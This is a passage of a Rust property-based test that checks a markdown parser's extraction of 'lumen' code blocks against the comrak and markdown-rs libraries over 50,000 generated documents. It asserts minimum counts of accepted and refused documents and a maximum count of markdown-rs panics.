            if info.to_lowercase().contains("lumen") {
                let content = if c.value.is_empty() {
                    String::new()
                } else {
                    format!("{}\n", c.value)
                };
                out.push((info, content.replace("\r\n", "\n")));
            }
        }
        if let Some(children) = n.children() {
            stack.extend(children.iter().rev());
        }
    }
    Some(out)
}

#[test]
fn markdown_program_agrees_with_comrak_and_markdown_rs() {
    let mut runner = TestRunner::new(Config {
        cases: 50_000,
        failure_persistence: None,
        ..Config::default()
    });
    let (accepted_with_blocks, refused_n) = (std::cell::Cell::new(0), std::cell::Cell::new(0));
    let rs_panics = std::cell::Cell::new(0);
    runner
        .run(&document(), |src| {
            let ours = match markdown_program(&src) {
                Err(errors) => {
                    for e in &errors {
                        prop_assert!(src.get(e.span().range()).is_some(), "{e:?}");
                    }
                    refused_n.set(refused_n.get() + 1);
                    return Ok(());
                }
                Ok(p) => p,
            };
            prop_assert_eq!(ours.code.len(), src.len());
            prop_assert_eq!(ours.code.matches('\n').count(), src.matches('\n').count());
            let mine: Vec<String> = ours.blocks.iter().map(|b| b.content_text(&src)).collect();
            let gfm = comrak_blocks(&src);
            prop_assert!(
                gfm.iter().all(|(i, _)| i.trim() == "lumen"),
                "comrak infos {:?}",
                gfm
            );
            let gfm: Vec<String> = gfm.into_iter().map(|(_, c)| c).collect();
            prop_assert_eq!(&mine, &gfm, "comrak");
            // markdown-rs drops the final line feed of a block's content, and gives `lang` and
            // `meta` split at the first space; compare contents without the last line feed.
            match markdown_rs_blocks(&src) {
                None => rs_panics.set(rs_panics.get() + 1),
                Some(rs) => {
                    let rs: Vec<String> = rs.into_iter().map(|(_, c)| c).collect();
                    let trim = |v: &[String]| {
                        v.iter()
                            .map(|c| c.trim_end_matches('\n').to_owned())
                            .collect::<Vec<_>>()
                    };
                    prop_assert_eq!(trim(&mine), trim(&rs), "markdown-rs");
                }
            }
            if !ours.blocks.is_empty() {
                accepted_with_blocks.set(accepted_with_blocks.get() + 1);
            }
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
    eprintln!(
        "accepted with blocks {}, refused {}, markdown-rs panics {}",
        accepted_with_blocks.get(),
        refused_n.get(),
        rs_panics.get()
    );
    // The grammar must exercise both sides: documents read as programs, and documents refused.
    let cases = runner.config().cases;
    assert!(
        accepted_with_blocks.get() >= cases / 40,
        "only {} accepted with blocks",
        accepted_with_blocks.get()
    );
    assert!(
        refused_n.get() >= cases / 4,
        "only {} refused",
        refused_n.get()
    );
    // The second oracle must judge nearly every document.
    assert!(
        rs_panics.get() <= cases / 50,
        "markdown-rs panicked {} times",
        rs_panics.get()
    );
}
